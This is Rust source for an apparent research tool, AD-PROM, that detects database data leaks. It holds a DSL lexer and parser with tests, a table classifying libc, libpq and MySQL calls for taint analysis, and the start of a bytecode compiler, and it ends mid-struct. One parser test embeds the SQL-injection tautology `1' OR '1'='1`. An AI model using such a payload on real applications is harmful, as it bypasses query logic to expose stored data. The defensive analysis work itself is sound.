        write!(f, "parse error at line {}: {}", self.line, self.message)
    }
}

impl std::error::Error for ParseError {}

/// Parses DSL source text into a [`Program`].
pub fn parse_program(src: &str) -> Result<Program, ParseError> {
    let tokens = lex(src)?;
    let mut parser = Parser {
        tokens,
        pos: 0,
        next_site: 0,
    };
    let mut functions = Vec::new();
    while !parser.at_end() {
        functions.push(parser.function()?);
    }
    Ok(Program::new(functions, parser.next_site))
}

#[derive(Debug, Clone, PartialEq)]
enum Tok {
    Ident(String),
    Int(i64),
    Float(f64),
    Str(String),
    Punct(&'static str),
    Kw(&'static str),
}

impl Tok {
    fn describe(&self) -> String {
        match self {
            Tok::Ident(s) => format!("identifier `{s}`"),
            Tok::Int(v) => format!("integer `{v}`"),
            Tok::Float(v) => format!("float `{v}`"),
            Tok::Str(_) => "string literal".to_string(),
            Tok::Punct(p) => format!("`{p}`"),
            Tok::Kw(k) => format!("keyword `{k}`"),
        }
    }
}

const KEYWORDS: &[&str] = &[
    "fn", "let", "if", "else", "while", "for", "return", "break", "continue", "true", "false",
    "null",
];

fn lex(src: &str) -> Result<Vec<(Tok, u32)>, ParseError> {
    let mut tokens = Vec::new();
    let bytes = src.as_bytes();
    let mut i = 0;
    let mut line: u32 = 1;
    while i < bytes.len() {
        let c = bytes[i] as char;
        match c {
            '\n' => {
                line += 1;
                i += 1;
            }
            c if c.is_whitespace() => i += 1,
            '/' if bytes.get(i + 1) == Some(&b'/') => {
                while i < bytes.len() && bytes[i] != b'\n' {
                    i += 1;
                }
            }
            '"' => {
                let start_line = line;
                i += 1;
                let mut s = String::new();
                loop {
                    match bytes.get(i) {
                        None => {
                            return Err(ParseError {
                                line: start_line,
                                message: "unterminated string literal".into(),
                            })
                        }
                        Some(b'"') => {
                            i += 1;
                            break;
                        }
                        Some(b'\\') => {
                            let esc = bytes.get(i + 1).copied().ok_or(ParseError {
                                line,
                                message: "dangling escape".into(),
                            })?;
                            s.push(match esc {
                                b'n' => '\n',
                                b't' => '\t',
                                b'\\' => '\\',
                                b'"' => '"',
                                other => other as char,
                            });
                            i += 2;
                        }
                        Some(&b) => {
                            if b == b'\n' {
                                line += 1;
                            }
                            s.push(b as char);
                            i += 1;
                        }
                    }
                }
                tokens.push((Tok::Str(s), start_line));
            }
            c if c.is_ascii_digit() => {
                let start = i;
                while i < bytes.len() && (bytes[i] as char).is_ascii_digit() {
                    i += 1;
                }
                let is_float = i < bytes.len()
                    && bytes[i] == b'.'
                    && bytes
                        .get(i + 1)
                        .is_some_and(|b| (*b as char).is_ascii_digit());
                if is_float {
                    i += 1;
                    while i < bytes.len() && (bytes[i] as char).is_ascii_digit() {
                        i += 1;
                    }
                    let text = &src[start..i];
                    let v = text.parse::<f64>().map_err(|_| ParseError {
                        line,
                        message: format!("bad float literal `{text}`"),
                    })?;
                    tokens.push((Tok::Float(v), line));
                } else {
                    let text = &src[start..i];
                    let v = text.parse::<i64>().map_err(|_| ParseError {
                        line,
                        message: format!("bad integer literal `{text}`"),
                    })?;
                    tokens.push((Tok::Int(v), line));
                }
            }
            c if c.is_ascii_alphabetic() || c == '_' => {
                let start = i;
                while i < bytes.len() && {
                    let c = bytes[i] as char;
                    c.is_ascii_alphanumeric() || c == '_'
                } {
                    i += 1;
                }
                let word = &src[start..i];
                if let Some(kw) = KEYWORDS.iter().find(|k| **k == word) {
                    tokens.push((Tok::Kw(kw), line));
                } else {
                    tokens.push((Tok::Ident(word.to_string()), line));
                }
            }
            _ => {
                // Two-character operators first.
                let two = if i + 1 < bytes.len() {
                    &src[i..i + 2]
                } else {
                    ""
                };
                let punct2 = ["==", "!=", "<=", ">=", "&&", "||"]
                    .iter()
                    .find(|p| **p == two);
                if let Some(p) = punct2 {
                    tokens.push((Tok::Punct(p), line));
                    i += 2;
                    continue;
                }
                let one = &src[i..i + 1];
                const SINGLES: &[&str] = &[
                    "(", ")", "{", "}", "[", "]", ",", ";", "+", "-", "*", "/", "%", "<", ">", "=",
                    "!",
                ];
                if let Some(p) = SINGLES.iter().find(|p| **p == one) {
                    tokens.push((Tok::Punct(p), line));
                    i += 1;
                } else {
                    return Err(ParseError {
                        line,
                        message: format!("unexpected character `{c}`"),
                    });
                }
            }
        }
    }
    Ok(tokens)
}

struct Parser {
    tokens: Vec<(Tok, u32)>,
    pos: usize,
    next_site: u32,
}

impl Parser {
    fn at_end(&self) -> bool {
        self.pos >= self.tokens.len()
    }

    fn peek(&self) -> Option<&Tok> {
        self.tokens.get(self.pos).map(|(t, _)| t)
    }

    fn line(&self) -> u32 {
        self.tokens
            .get(self.pos)
            .or_else(|| self.tokens.last())
            .map(|(_, l)| *l)
            .unwrap_or(0)
    }

    fn error(&self, message: impl Into<String>) -> ParseError {
        ParseError {
            line: self.line(),
            message: message.into(),
        }
    }

    fn bump(&mut self) -> Option<Tok> {
        let t = self.tokens.get(self.pos).map(|(t, _)| t.clone());
        self.pos += 1;
        t
    }

    fn eat_punct(&mut self, p: &str) -> bool {
        if self.peek() == Some(&Tok::Punct(punct_static(p))) {
            self.pos += 1;
            true
        } else {
            false
        }
    }

    fn expect_punct(&mut self, p: &str) -> Result<(), ParseError> {
        if self.eat_punct(p) {
            Ok(())
        } else {
            let found = self
                .peek()
                .map(|t| t.describe())
                .unwrap_or_else(|| "end of input".into());
            Err(self.error(format!("expected `{p}`, found {found}")))
        }
    }

    fn eat_kw(&mut self, kw: &str) -> bool {
        if let Some(Tok::Kw(k)) = self.peek() {
            if *k == kw {
                self.pos += 1;
                return true;
            }
        }
        false
    }

    fn expect_ident(&mut self) -> Result<String, ParseError> {
        match self.bump() {
            Some(Tok::Ident(s)) => Ok(s),
            other => {
                let found = other
                    .map(|t| t.describe())
                    .unwrap_or_else(|| "end of input".into());
                Err(self.error(format!("expected identifier, found {found}")))
            }
        }
    }

    fn function(&mut self) -> Result<Function, ParseError> {
        if !self.eat_kw("fn") {
            return Err(self.error("expected `fn`"));
        }
        let name = self.expect_ident()?;
        self.expect_punct("(")?;
        let mut params = Vec::new();
        if !self.eat_punct(")") {
            loop {
                params.push(self.expect_ident()?);
                if self.eat_punct(")") {
                    break;
                }
                self.expect_punct(",")?;
            }
        }
        let body = self.block()?;
        Ok(Function::new(name, params, body))
    }

    fn block(&mut self) -> Result<Vec<Stmt>, ParseError> {
        self.expect_punct("{")?;
        let mut stmts = Vec::new();
        while !self.eat_punct("}") {
            if self.at_end() {
                return Err(self.error("unterminated block"));
            }
            stmts.push(self.statement()?);
        }
        Ok(stmts)
    }

    fn statement(&mut self) -> Result<Stmt, ParseError> {
        if self.eat_kw("let") {
            let name = self.expect_ident()?;
            self.expect_punct("=")?;
            let value = self.expr()?;
            self.expect_punct(";")?;
            return Ok(Stmt::Let(name, value));
        }
        if self.eat_kw("if") {
            self.expect_punct("(")?;
            let cond = self.expr()?;
            self.expect_punct(")")?;
            let then_branch = self.block()?;
            let else_branch = if self.eat_kw("else") {
                if let Some(Tok::Kw("if")) = self.peek() {
                    vec![self.statement()?]
                } else {
                    self.block()?
                }
            } else {
                vec![]
            };
            return Ok(Stmt::If {
                cond,
                then_branch,
                else_branch,
            });
        }
        if self.eat_kw("while") {
            self.expect_punct("(")?;
            let cond = self.expr()?;
            self.expect_punct(")")?;
            let body = self.block()?;
            return Ok(Stmt::While { cond, body });
        }
        if self.eat_kw("for") {
            self.expect_punct("(")?;
            let init = Box::new(self.simple_stmt()?);
            self.expect_punct(";")?;
            let cond = self.expr()?;
            self.expect_punct(";")?;
            let step = Box::new(self.simple_stmt()?);
            self.expect_punct(")")?;
            let body = self.block()?;
            return Ok(Stmt::For {
                init,
                cond,
                step,
                body,
            });
        }
        if self.eat_kw("return") {
            if self.eat_punct(";") {
                return Ok(Stmt::Return(None));
            }
            let value = self.expr()?;
            self.expect_punct(";")?;
            return Ok(Stmt::Return(Some(value)));
        }
        if self.eat_kw("break") {
            self.expect_punct(";")?;
            return Ok(Stmt::Break);
        }
        if self.eat_kw("continue") {
            self.expect_punct(";")?;
            return Ok(Stmt::Continue);
        }
        let stmt = self.simple_stmt()?;
        self.expect_punct(";")?;
        Ok(stmt)
    }

    /// Assignment / let / expression statement without the trailing `;` —
    /// used inside `for (...)` headers and as the tail of `statement`.
    fn simple_stmt(&mut self) -> Result<Stmt, ParseError> {
        if self.eat_kw("let") {
            let name = self.expect_ident()?;
            self.expect_punct("=")?;
            let value = self.expr()?;
            return Ok(Stmt::Let(name, value));
        }
        // Lookahead: `ident =` (but not `==`) is an assignment.
        if let Some(Tok::Ident(name)) = self.peek().cloned() {
            if self.tokens.get(self.pos + 1).map(|(t, _)| t) == Some(&Tok::Punct("=")) {
                self.pos += 2;
                let value = self.expr()?;
                return Ok(Stmt::Assign(name, value));
            }
        }
        Ok(Stmt::Expr(self.expr()?))
    }

    fn expr(&mut self) -> Result<Expr, ParseError> {
        self.or_expr()
    }

    fn or_expr(&mut self) -> Result<Expr, ParseError> {
        let mut lhs = self.and_expr()?;
        while self.eat_punct("||") {
            let rhs = self.and_expr()?;
            lhs = Expr::Binary(BinOp::Or, Box::new(lhs), Box::new(rhs));
        }
        Ok(lhs)
    }

    fn and_expr(&mut self) -> Result<Expr, ParseError> {
        let mut lhs = self.cmp_expr()?;
        while self.eat_punct("&&") {
            let rhs = self.cmp_expr()?;
            lhs = Expr::Binary(BinOp::And, Box::new(lhs), Box::new(rhs));
        }
        Ok(lhs)
    }

    fn cmp_expr(&mut self) -> Result<Expr, ParseError> {
        let lhs = self.add_expr()?;
        let op = if self.eat_punct("==") {
            BinOp::Eq
        } else if self.eat_punct("!=") {
            BinOp::Ne
        } else if self.eat_punct("<=") {
            BinOp::Le
        } else if self.eat_punct(">=") {
            BinOp::Ge
        } else if self.eat_punct("<") {
            BinOp::Lt
        } else if self.eat_punct(">") {
            BinOp::Gt
        } else {
            return Ok(lhs);
        };
        let rhs = self.add_expr()?;
        Ok(Expr::Binary(op, Box::new(lhs), Box::new(rhs)))
    }

    fn add_expr(&mut self) -> Result<Expr, ParseError> {
        let mut lhs = self.mul_expr()?;
        loop {
            let op = if self.eat_punct("+") {
                BinOp::Add
            } else if self.eat_punct("-") {
                BinOp::Sub
            } else {
                return Ok(lhs);
            };
            let rhs = self.mul_expr()?;
            lhs = Expr::Binary(op, Box::new(lhs), Box::new(rhs));
        }
    }

    fn mul_expr(&mut self) -> Result<Expr, ParseError> {
        let mut lhs = self.unary_expr()?;
        loop {
            let op = if self.eat_punct("*") {
                BinOp::Mul
            } else if self.eat_punct("/") {
                BinOp::Div
            } else if self.eat_punct("%") {
                BinOp::Rem
            } else {
                return Ok(lhs);
            };
            let rhs = self.unary_expr()?;
            lhs = Expr::Binary(op, Box::new(lhs), Box::new(rhs));
        }
    }

    fn unary_expr(&mut self) -> Result<Expr, ParseError> {
        if self.eat_punct("-") {
            let e = self.unary_expr()?;
            return Ok(Expr::Unary(UnOp::Neg, Box::new(e)));
        }
        if self.eat_punct("!") {
            let e = self.unary_expr()?;
            return Ok(Expr::Unary(UnOp::Not, Box::new(e)));
        }
        self.postfix_expr()
    }

    fn postfix_expr(&mut self) -> Result<Expr, ParseError> {
        let mut e = self.primary_expr()?;
        while self.eat_punct("[") {
            let idx = self.expr()?;
            self.expect_punct("]")?;
            e = Expr::Index(Box::new(e), Box::new(idx));
        }
        Ok(e)
    }

    fn primary_expr(&mut self) -> Result<Expr, ParseError> {
        let line = self.line();
        match self.bump() {
            Some(Tok::Int(v)) => Ok(Expr::Int(v)),
            Some(Tok::Float(v)) => Ok(Expr::Float(v)),
            Some(Tok::Str(s)) => Ok(Expr::Str(s)),
            Some(Tok::Kw("true")) => Ok(Expr::Bool(true)),
            Some(Tok::Kw("false")) => Ok(Expr::Bool(false)),
            Some(Tok::Kw("null")) => Ok(Expr::Null),
            Some(Tok::Punct("(")) => {
                let e = self.expr()?;
                self.expect_punct(")")?;
                Ok(e)
            }
            Some(Tok::Ident(name)) => {
                if self.eat_punct("(") {
                    let mut args = Vec::new();
                    if !self.eat_punct(")") {
                        loop {
                            args.push(self.expr()?);
                            if self.eat_punct(")") {
                                break;
                            }
                            self.expect_punct(",")?;
                        }
                    }
                    let callee = match LibCall::from_name(&name) {
                        Some(lc) => Callee::Library(lc),
                        None => Callee::User(name),
                    };
                    let site = crate::ast::CallSiteId(self.next_site);
                    self.next_site += 1;
                    Ok(Expr::Call {
                        site,
                        callee,
                        args,
                        line,
                    })
                } else {
                    Ok(Expr::Var(name))
                }
            }
            other => {
                let found = other
                    .map(|t| t.describe())
                    .unwrap_or_else(|| "end of input".into());
                Err(ParseError {
                    line,
                    message: format!("expected expression, found {found}"),
                })
            }
        }
    }
}

fn punct_static(p: &str) -> &'static str {
    const ALL: &[&str] = &[
        "(", ")", "{", "}", "[", "]", ",", ";", "+", "-", "*", "/", "%", "<", ">", "=", "!", "==",
        "!=", "<=", ">=", "&&", "||",
    ];
    ALL.iter().find(|s| **s == p).copied().unwrap_or("?")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::ast::Callee;

    #[test]
    fn parses_minimal_main() {
        let prog = parse_program("fn main() { printf(\"hi\"); }").unwrap();
        assert_eq!(prog.functions.len(), 1);
        assert_eq!(prog.call_site_count(), 1);
    }

    #[test]
    fn resolves_library_vs_user_calls() {
        let src = r#"
            fn main() { helper(); PQexec(c, "SELECT 1"); }
            fn helper() { }
        "#;
        let prog = parse_program(src).unwrap();
        let mut kinds = Vec::new();
        prog.for_each_call(|_, callee, _| {
            kinds.push(matches!(callee, Callee::Library(_)));
        });
        assert_eq!(kinds, vec![false, true]);
    }

    #[test]
    fn parses_control_flow() {
        let src = r#"
            fn main() {
                let i = 0;
                while (i < 10) {
                    if (i % 2 == 0) { printf("%d", i); } else { puts("odd"); }
                    i = i + 1;
                }
                for (let j = 0; j < 3; j = j + 1) { putchar(j); }
                return;
            }
        "#;
        let prog = parse_program(src).unwrap();
        assert_eq!(prog.call_site_count(), 3);
    }

    #[test]
    fn string_escapes() {
        let prog = parse_program(r#"fn main() { printf("a\nb\"c"); }"#).unwrap();
        let f = prog.entry().unwrap();
        if let Stmt::Expr(Expr::Call { args, .. }) = &f.body[0] {
            assert_eq!(args[0], Expr::Str("a\nb\"c".into()));
        } else {
            panic!("expected call statement");
        }
    }

    #[test]
    fn error_reports_line() {
        let err = parse_program("fn main() {\n let x = ;\n}").unwrap_err();
        assert_eq!(err.line, 2);
    }

    #[test]
    fn else_if_chains() {
        let src = r#"
            fn main() {
                let c = scanf();
                if (c == 1) { puts("a"); }
                else if (c == 2) { puts("b"); }
                else { puts("c"); }
            }
        "#;
        let prog = parse_program(src).unwrap();
        assert_eq!(prog.call_site_count(), 4);
    }

    #[test]
    fn call_sites_numbered_in_order() {
        let prog = parse_program("fn main() { puts(\"a\"); puts(\"b\"); puts(\"c\"); }").unwrap();
        let mut ids = Vec::new();
        prog.for_each_call(|s, _, _| ids.push(s.0));
        assert_eq!(ids, vec![0, 1, 2]);
    }

    #[test]
    fn comments_are_skipped() {
        let prog = parse_program("// header\nfn main() { // trailing\n puts(\"x\"); }").unwrap();
        assert_eq!(prog.call_site_count(), 1);
    }

    #[test]
    fn unterminated_string_is_error() {
        assert!(parse_program("fn main() { printf(\"oops); }").is_err());
    }

    #[test]
    fn tautology_literal_survives_lexing() {
        // The SQL-injection payload from Fig. 2 must lex as a plain string.
        let prog = parse_program(r#"fn main() { let inj = "1' OR '1'='1"; puts(inj); }"#).unwrap();
        let f = prog.entry().unwrap();
        assert_eq!(
            f.body[0],
            Stmt::Let("inj".into(), Expr::str("1' OR '1'='1"))
        );
    }
}
