//! The library-call surface intercepted by AD-PROM.
//!
//! This is the union of the libc, libpq (PostgreSQL) and libmysqlclient
//! functions that appear in the paper's examples plus the usual supporting
//! calls a small database client application needs. Each call is classified
//! for the data-dependency analysis:
//!
//! * **DB sources** return targeted data (TD) retrieved from the database
//!   (`PQexec`, `PQgetvalue`, `mysql_store_result`, `mysql_fetch_row`, …).
//! * **Output sinks** transfer data out of the process (`printf`, `fprintf`,
//!   `fwrite`, `write`, …) — exactly the list in §IV-A of the paper.
//! * **Propagators** copy data between buffers (`strcpy`, `strcat`,
//!   `sprintf`, …): taint on any source argument flows to the destination.

use serde::{Deserialize, Serialize};
use std::fmt;
use std::str::FromStr;

macro_rules! libcalls {
    ($( $variant:ident => $name:literal ),+ $(,)?) => {
        /// A library call known to AD-PROM's collector and analyzer.
        #[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord,
                 Serialize, Deserialize)]
        #[allow(missing_docs)]
        pub enum LibCall {
            $($variant),+
        }

        impl LibCall {
            /// Canonical C-level name of the call (what traces record).
            pub fn name(self) -> &'static str {
                match self {
                    $(LibCall::$variant => $name),+
                }
            }

            /// All known library calls.
            pub const ALL: &'static [LibCall] = &[$(LibCall::$variant),+];

            /// Resolves a canonical name back to a call.
            pub fn from_name(name: &str) -> Option<LibCall> {
                match name {
                    $($name => Some(LibCall::$variant),)+
                    _ => None,
                }
            }
        }
    };
}

libcalls! {
    // --- libpq (PostgreSQL) ---
    PQconnectdb => "PQconnectdb",
    PQexec => "PQexec",
    PQprepare => "PQprepare",
    PQexecPrepared => "PQexecPrepared",
    PQntuples => "PQntuples",
    PQnfields => "PQnfields",
    PQgetvalue => "PQgetvalue",
    PQclear => "PQclear",
    PQfinish => "PQfinish",
    // --- libmysqlclient ---
    MysqlInit => "mysql_init",
    MysqlRealConnect => "mysql_real_connect",
    MysqlQuery => "mysql_query",
    MysqlStoreResult => "mysql_store_result",
    MysqlFetchRow => "mysql_fetch_row",
    MysqlNumRows => "mysql_num_rows",
    MysqlNumFields => "mysql_num_fields",
    MysqlFreeResult => "mysql_free_result",
    MysqlClose => "mysql_close",
    MysqlStmtPrepare => "mysql_stmt_prepare",
    MysqlStmtExecute => "mysql_stmt_execute",
    // --- stdio output ---
    Printf => "printf",
    Fprintf => "fprintf",
    Sprintf => "sprintf",
    Snprintf => "snprintf",
    Puts => "puts",
    Putchar => "putchar",
    Fputc => "fputc",
    Fputs => "fputs",
    Write => "write",
    Fwrite => "fwrite",
    // --- stdio input ---
    Scanf => "scanf",
    Fscanf => "fscanf",
    Gets => "gets",
    Fgets => "fgets",
    Getchar => "getchar",
    // --- files ---
    Fopen => "fopen",
    Fclose => "fclose",
    Fflush => "fflush",
    Fread => "fread",
    Remove => "remove",
    // --- strings / conversion ---
    Strcpy => "strcpy",
    Strncpy => "strncpy",
    Strcat => "strcat",
    Strncat => "strncat",
    Strcmp => "strcmp",
    Strlen => "strlen",
    Strstr => "strstr",
    Atoi => "atoi",
    Atof => "atof",
    Memcpy => "memcpy",
    Memset => "memset",
    // --- misc libc ---
    System => "system",
    Exit => "exit",
    Malloc => "malloc",
    Free => "free",
    Rand => "rand",
    Srand => "srand",
    Time => "time",
    Getenv => "getenv",
    Sleep => "sleep",
    Abs => "abs",
    Sqrt => "sqrt",
}

impl LibCall {
    /// True if the call retrieves targeted data from the database. These are
    /// the taint *sources* of the DDG.
    pub fn is_db_source(self) -> bool {
        matches!(
            self,
            LibCall::PQexec
                | LibCall::PQexecPrepared
                | LibCall::PQgetvalue
                | LibCall::MysqlStoreResult
                | LibCall::MysqlFetchRow
        )
    }

    /// True if the call submits a query string to the database (used by the
    /// collector to associate leaks with query sites).
    pub fn is_query_submission(self) -> bool {
        matches!(
            self,
            LibCall::PQexec
                | LibCall::PQprepare
                | LibCall::PQexecPrepared
                | LibCall::MysqlQuery
                | LibCall::MysqlStmtPrepare
        )
    }

    /// True if the call is an output statement in the paper's sense (§IV-A):
    /// a sink that may transfer the TD to the screen, a file, or a buffer
    /// later written out.
    pub fn is_output_sink(self) -> bool {
        matches!(
            self,
            LibCall::Printf
                | LibCall::Fprintf
                | LibCall::Sprintf
                | LibCall::Snprintf
                | LibCall::Puts
                | LibCall::Putchar
                | LibCall::Fputc
                | LibCall::Fputs
                | LibCall::Write
                | LibCall::Fwrite
        )
    }

    /// For propagator calls, the index of the *destination* argument that
    /// receives taint from the remaining arguments (`strcpy(dst, src)` etc.).
    /// `None` for non-propagators.
    pub fn propagates_to_arg(self) -> Option<usize> {
        match self {
            LibCall::Strcpy
            | LibCall::Strncpy
            | LibCall::Strcat
            | LibCall::Strncat
            | LibCall::Sprintf
            | LibCall::Snprintf
            | LibCall::Memcpy => Some(0),
            _ => None,
        }
    }

    /// True if the call returns user (stdin) input — sources for injection
    /// attacks, but not DB taint.
    pub fn is_user_input(self) -> bool {
        matches!(
            self,
            LibCall::Scanf | LibCall::Fscanf | LibCall::Gets | LibCall::Fgets | LibCall::Getchar
        )
    }

    /// C out-parameter emulation: which argument *expression*, when it is a
    /// plain variable, additionally receives the call's result
    /// (`strcpy(dst, src)` writes `dst`, `scanf("%s", var)` writes `var`).
    ///
    /// For every call in this table the stored value equals the returned
    /// value, so the runtimes (tree-walk and VM) implement the write as
    /// "store the result into the target variable, keeping it as the call's
    /// value" — one shared rule instead of two divergent interpreters.
    pub fn out_param(self) -> Option<OutParam> {
        match self {
            LibCall::Scanf | LibCall::Gets | LibCall::Getchar => Some(OutParam::LastArg),
            LibCall::Fscanf
            | LibCall::Fgets
            | LibCall::Strcpy
            | LibCall::Strncpy
            | LibCall::Strcat
            | LibCall::Strncat
            | LibCall::Sprintf
            | LibCall::Snprintf
            | LibCall::Memcpy => Some(OutParam::FirstArg),
            _ => None,
        }
    }
}

/// Which argument position a call writes through (see
/// [`LibCall::out_param`]).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum OutParam {
    /// The first argument (`strcpy(dst, ..)`, `fgets(buf, ..)`).
    FirstArg,
    /// The last argument (`scanf("%s", var)`).
    LastArg,
}

impl fmt::Display for LibCall {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

impl FromStr for LibCall {
    type Err = ();

    fn from_str(s: &str) -> Result<LibCall, ()> {
        LibCall::from_name(s).ok_or(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_round_trip() {
        for &lc in LibCall::ALL {
            assert_eq!(LibCall::from_name(lc.name()), Some(lc), "{lc}");
        }
    }

    #[test]
    fn classification_matches_paper_lists() {
        // §IV-A output statements.
        for name in [
            "printf", "fprintf", "sprintf", "snprintf", "fputc", "fputs", "write", "fwrite",
        ] {
            assert!(
                LibCall::from_name(name).unwrap().is_output_sink(),
                "{name} must be an output sink"
            );
        }
        // §IV-B1 input statements that retrieve the TD.
        assert!(LibCall::PQexec.is_db_source());
        assert!(LibCall::MysqlFetchRow.is_db_source());
        assert!(!LibCall::Printf.is_db_source());
        assert!(!LibCall::MysqlQuery.is_db_source()); // returns status only
        assert!(LibCall::MysqlQuery.is_query_submission());
    }

    #[test]
    fn propagators_target_destination() {
        assert_eq!(LibCall::Strcpy.propagates_to_arg(), Some(0));
        assert_eq!(LibCall::Strcat.propagates_to_arg(), Some(0));
        assert_eq!(LibCall::Printf.propagates_to_arg(), None);
    }

    #[test]
    fn all_names_unique() {
        let mut names: Vec<&str> = LibCall::ALL.iter().map(|c| c.name()).collect();
        names.sort_unstable();
        let before = names.len();
        names.dedup();
        assert_eq!(before, names.len());
    }
}
