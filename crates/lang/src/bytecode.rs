//! Bytecode for the AD-PROM application-program language.
//!
//! The tree-walking interpreter in `adprom-trace` is the *reference
//! semantics* of the language; this module is the compilation escape hatch
//! for the hot path — trace generation at fleet scale. [`compile_program`]
//! lowers a [`Program`] to a compact stack-machine [`BytecodeProgram`]:
//!
//! * a deduplicated **constant pool** ([`Const`]) — every literal appears
//!   once, however many call sites mention it;
//! * an **interned name table** — observation names are resolved *at
//!   compile time* from the Analyzer's site-label map (`printf_Q6` vs raw
//!   `printf`), so trace emission never consults a map per event;
//! * **pre-resolved call sites** — user calls carry the callee's chunk
//!   index, library calls carry the [`LibCall`] plus the interned
//!   observation-name id; a call to a function that does not exist compiles
//!   to [`Op::CallUnknown`], which faults only if actually reached
//!   (matching the tree-walk's dynamic lookup);
//! * per-function [`Chunk`]s with **slot-resolved locals** — variable
//!   access is an array index, not a `HashMap<String, _>` probe.
//!
//! Out-parameter emulation (`strcpy(dst, ..)`, `scanf("%s", v)`) compiles
//! to [`Op::StoreKeep`] immediately after the call, driven by the same
//! [`LibCall::out_param`] table the interpreter uses.
//!
//! Compilation is total over well-formed programs and fails cleanly (no
//! stack overflow) on pathological nesting via [`CompileError::TooDeep`].
//! [`disassemble`] renders the result in the [`pretty`](crate::pretty)
//! style for debugging and golden tests.

use crate::ast::{BinOp, CallSiteId, Callee, Expr, Function, Program, Stmt, UnOp};
use crate::libcalls::LibCall;
use serde::{Deserialize, Serialize};
use std::collections::HashMap;
use std::fmt;
use std::fmt::Write;

/// Maximum combined statement/expression nesting depth the compiler
/// accepts. Real programs nest a handful of levels; past this bound the
/// compiler reports [`CompileError::TooDeep`] instead of overflowing its
/// own recursion.
pub const MAX_NEST_DEPTH: usize = 512;

/// A compile-time constant in the pool. Floats are deduplicated by bit
/// pattern, so `0.0` and `-0.0` are distinct entries (they render
/// differently at run time).
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub enum Const {
    /// Integer literal.
    Int(i64),
    /// Floating-point literal.
    Float(f64),
    /// String literal.
    Str(String),
    /// Boolean literal.
    Bool(bool),
    /// The null literal.
    Null,
}

impl fmt::Display for Const {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Const::Int(v) => write!(f, "{v}"),
            Const::Float(v) => write!(f, "{v}"),
            Const::Str(s) => write!(f, "{s:?}"),
            Const::Bool(b) => write!(f, "{b}"),
            Const::Null => write!(f, "null"),
        }
    }
}

/// One instruction of the stack machine.
///
/// The operand stack holds runtime values; locals live in per-frame slot
/// arrays. Jump targets are absolute instruction indices within the
/// current chunk.
#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize)]
pub enum Op {
    /// Push constant-pool entry `0`.
    Const(u16),
    /// Push local slot `0`.
    Load(u16),
    /// Pop into local slot `0`.
    Store(u16),
    /// Store the stack top into slot `0` *without* popping — the
    /// out-parameter write after a library call.
    StoreKeep(u16),
    /// Pop and discard (expression statements).
    Pop,
    /// Pop one value, push the result of the unary operator.
    Unary(UnOp),
    /// Pop two values (right on top), push the result. Never emitted for
    /// `&&`/`||`, which compile to jumps.
    Binary(BinOp),
    /// Pop one value, push `Bool(value.truthy())` — normalizes the result
    /// of a short-circuit chain exactly like the tree-walk does.
    Truthy,
    /// Pop index then base, push `base[index]`.
    Index,
    /// Unconditional jump.
    Jump(u32),
    /// Pop; jump when the value is falsy.
    JumpIfFalse(u32),
    /// Pop; jump when the value is truthy.
    JumpIfTrue(u32),
    /// Call chunk `func` with `argc` arguments popped from the stack
    /// (first argument deepest). Extra arguments are dropped, missing
    /// parameters read as null — the interpreter's zip-binding semantics.
    Call {
        /// Callee chunk index.
        func: u16,
        /// Number of arguments on the stack.
        argc: u8,
    },
    /// Call to a function that does not exist in the program: evaluating
    /// the arguments succeeded, executing this op raises
    /// `UndefinedFunction` — the same point the tree-walk faults.
    CallUnknown {
        /// Interned name-table id of the missing function.
        name: u16,
    },
    /// Intercepted library call: emits a `CallEvent` with the pre-resolved
    /// observation name, then executes the call against the host.
    CallLib {
        /// The library call.
        lc: LibCall,
        /// The originating call site (stamped on the event).
        site: CallSiteId,
        /// Interned observation name (site label or raw call name).
        name: u16,
        /// Number of arguments on the stack.
        argc: u8,
    },
    /// Return the stack top to the caller (halts the program in `main`).
    Ret,
    /// Fused `Load slot; Const cst; Binary op` — one dispatch for the
    /// ubiquitous `x <op> literal` shape (`r + 1`, `balance < 100`).
    LoadConstBin {
        /// Local slot of the left operand.
        slot: u16,
        /// Constant-pool entry of the right operand.
        cst: u16,
        /// The binary operator.
        op: BinOp,
    },
    /// Fused `Load a; Load b; Binary op` (`r < rows`, `total + fee`).
    LoadLoadBin {
        /// Local slot of the left operand.
        a: u16,
        /// Local slot of the right operand.
        b: u16,
        /// The binary operator.
        op: BinOp,
    },
    /// Fused `Load slot; Const cst; Binary op; Store dst` — the canonical
    /// loop step `r = r + 1` runs in one dispatch without touching the
    /// operand stack.
    LoadConstBinStore {
        /// Local slot of the left operand.
        slot: u16,
        /// Constant-pool entry of the right operand.
        cst: u16,
        /// The binary operator.
        op: BinOp,
        /// Destination local slot.
        dst: u16,
    },
    /// Fused `Const cst; Store slot` (`let x = 0`).
    ConstStore {
        /// Constant-pool entry to store.
        cst: u16,
        /// Destination local slot.
        slot: u16,
    },
    /// Fused `Load slot; Const cst; Binary op; JumpIfFalse target` — the
    /// loop header `while (i < 10)` in one dispatch; the comparison result
    /// never touches the operand stack.
    LoadConstBinJf {
        /// Local slot of the left operand.
        slot: u16,
        /// Constant-pool entry of the right operand.
        cst: u16,
        /// The binary operator.
        op: BinOp,
        /// Jump target when the result is falsy.
        target: u32,
    },
    /// Fused `Load a; Load b; Binary op; JumpIfFalse target` (`r < rows`
    /// guarding a loop).
    LoadLoadBinJf {
        /// Local slot of the left operand.
        a: u16,
        /// Local slot of the right operand.
        b: u16,
        /// The binary operator.
        op: BinOp,
        /// Jump target when the result is falsy.
        target: u32,
    },
}

/// One compiled function.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Chunk {
    /// Function name — becomes `CallEvent::caller` for events emitted
    /// while this chunk executes.
    pub name: String,
    /// Number of parameters (bound into slots `0..params`).
    pub params: u16,
    /// Total local slots, parameters included.
    pub locals: u16,
    /// The instruction stream. The compiler guarantees every path ends in
    /// [`Op::Ret`].
    pub code: Vec<Op>,
}

/// A whole compiled program.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct BytecodeProgram {
    /// Deduplicated constant pool.
    pub consts: Vec<Const>,
